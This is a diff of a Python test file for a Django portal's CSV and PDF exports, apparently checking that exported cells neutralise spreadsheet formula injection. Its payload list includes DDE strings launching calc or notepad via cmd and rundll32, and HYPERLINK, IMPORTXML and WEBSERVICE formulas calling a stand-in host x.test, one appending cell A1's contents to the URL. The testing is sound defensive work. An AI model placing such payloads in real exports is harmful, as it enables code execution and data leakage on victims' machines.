@@ -3,7 +3,7 @@
 import csv
 import os
 import sys
-from datetime import date, datetime, timedelta
+from datetime import datetime, timedelta
 from decimal import Decimal
 from itertools import product
 
@@ -12,7 +12,6 @@ import pypdfium2
 import pytest
 from django.http import QueryDict
 from django.utils import timezone
-
 from pypdf import PdfReader
 
 from portal.core.errors import Refused
@@ -24,13 +23,19 @@ from portal.models import File, Job
 from tests import make
 from tests.kit.hung.exports import Broken, CustomerNames, Days
 
-STARTS = ["=", "+", "-", "@", "\t", "\r", "\0", "＝", "＋", "－", "＠", "\n"]
+STARTS = ["=", "+", "-", "@", "\t", "\r", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\n"]
 DEEDS = [
-    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.test/?"&A1,"see")', "SUM(1+9)*cmd|' /C calc'!A0",
-    'IMPORTXML("http://x.test","//a")', "A1", "2+5+cmd|' /C notepad'!A0", 'WEBSERVICE("http://x.test")',
-    "rundll32|'URL.dll,OpenURL calc.exe'!A", "0", "1", "-1", "x", " 1", "\t1", "'1", "(1)", "$A$1",
-    "1,2", '"1"', "1;2", "é", "true", "Sheet1!A1", "10/0",
-]  # fmt: skip
+    "1+1",
+    "cmd|' /C calc'!A0",
+    'HYPERLINK("http://x.test/?"&A1,"see")',
+    "SUM(1+9)*cmd|' /C calc'!A0",
+    'IMPORTXML("http://x.test","//a")',
+    "2+5+cmd|' /C notepad'!A0",
+    'WEBSERVICE("http://x.test")',
+    "rundll32|'URL.dll,OpenURL calc.exe'!A",
+    *("A1", "0", "1", "-1", "x", ".5", "@x", "'1", "(1)", "$A$1", "1,2", '"1"', "1;2"),
+    *("é", "true", "Sheet1!A1", "10/0"),
+]
 PAYLOADS = [start + deed for start, deed in product(STARTS, DEEDS)]
 
 
@@ -147,7 +152,7 @@ def test_a_pdf_refuses_more_than_10_000_rows(tmp_path):
 def test_without_pango_a_pdf_says_what_to_install(tmp_path, monkeypatch):
     monkeypatch.setitem(sys.modules, "weasyprint", None)
 
-    with pytest.raises(Refused, match="apt-get install libpango-1.0-0"):
+    with pytest.raises(Refused, match=r"apt-get install libpango-1\.0-0"):
         pdf_file.write(tmp_path / "t.pdf", sheet_of(["one"]))
 
 
